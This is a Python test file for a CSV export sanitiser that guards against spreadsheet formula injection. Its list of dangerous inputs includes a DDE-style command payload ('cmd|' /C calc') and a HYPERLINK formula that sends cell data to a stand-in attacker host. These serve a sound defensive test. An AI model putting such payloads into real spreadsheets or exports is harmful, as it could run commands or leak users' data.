import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from complaints.resolution.spreadsheets import cell, harmless, lines, restored

DANGEROUS = [
    "=1+1",
    "==1",
    "+44 20 7946 0000",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tx",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '="a""b"',
    " =1",
    "\xa0=1",
    "\ufeff=1",
    "\u200b=1",
    "'=1",
    "''=1",
    "=",
]
HARMLESS = ["", "Charged twice", "O'Brien", "'twas wrong", "1-2", "a=b", "£5", "“=1”", "5", "'"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_sec_07_what_begins_like_a_formula_begins_with_an_apostrophe(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_sec_07_other_words_are_left_alone(text: str) -> None:
    assert harmless(text) == text


@given(st.text())
def test_sec_07_any_text_is_restored(text: str) -> None:
    assert restored(harmless(text)) == text


@given(st.lists(st.lists(st.text(), min_size=1), min_size=1))
def test_sec_07_what_we_exported_reads_back_as_it_was(rows: list[list[str]]) -> None:
    """Quotes, delimiters and line ends inside a cell are the csv module's part; together nothing is lost."""
    text = "".join(lines(rows))
    read = csv.reader(io.StringIO(text, newline=""), strict=True)
    assert [[restored(one) for one in row] for row in read] == rows


@given(st.text())
def test_sec_07_no_exported_cell_begins_like_a_formula(text: str) -> None:
    (row,) = csv.reader(io.StringIO("".join(lines([[text]])), newline=""))
    assert row[0][:1] not in {"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"}


@pytest.mark.parametrize("number", [0, -5, 12.5, Decimal("-3.10")])
def test_numbers_stay_numbers(number: Decimal) -> None:
    assert cell(number) == number
    assert "".join(lines([[number]])) == f"{number}\r\n"


def test_moments_days_and_nothing_are_written_plainly() -> None:
    row = [datetime(2026, 3, 2, 10, 5, 59, tzinfo=UTC).replace(tzinfo=None), date(2026, 3, 2), None, True]
    assert "".join(lines([row])) == "2026-03-02 10:05,2026-03-02,,yes\r\n"


def test_an_export_begins_with_its_mark_only_where_it_was_asked_for() -> None:
    assert next(lines([["a"]], bom=True)) == "\ufeff"
    assert next(lines([["a"]])) == "a\r\n"


def test_lines_are_made_one_at_a_time() -> None:
    taken: list[int] = []

    def rows() -> object:
        for number in range(3):
            taken.append(number)
            yield [number]

    next(lines(rows()))  # type: ignore[arg-type]
    assert taken == [0]
